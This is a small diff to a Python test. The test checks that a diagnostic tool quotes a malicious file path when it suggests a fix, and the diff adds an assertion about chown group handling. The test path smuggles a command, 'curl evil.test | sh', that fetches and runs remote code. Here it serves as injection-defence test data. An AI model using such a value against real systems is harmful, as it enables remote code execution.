@@ -438,6 +438,7 @@ def test_the_name_of_a_file_is_no_command(kind: str) -> None:
     path = "/srv/blog/shared/a; curl evil.test | sh #"
     findings, dummy = diagnose(changed("files", [{**file(kind)[0], "path": path}]))
     assert [f" '{path}'" in finding.fix for finding in findings] == [True]
+    assert ": '" not in findings[0].fix, "chown with a colon takes the group away, by which the site reads its code"
 
 
 def test_whose_a_file_was_to_be() -> None:
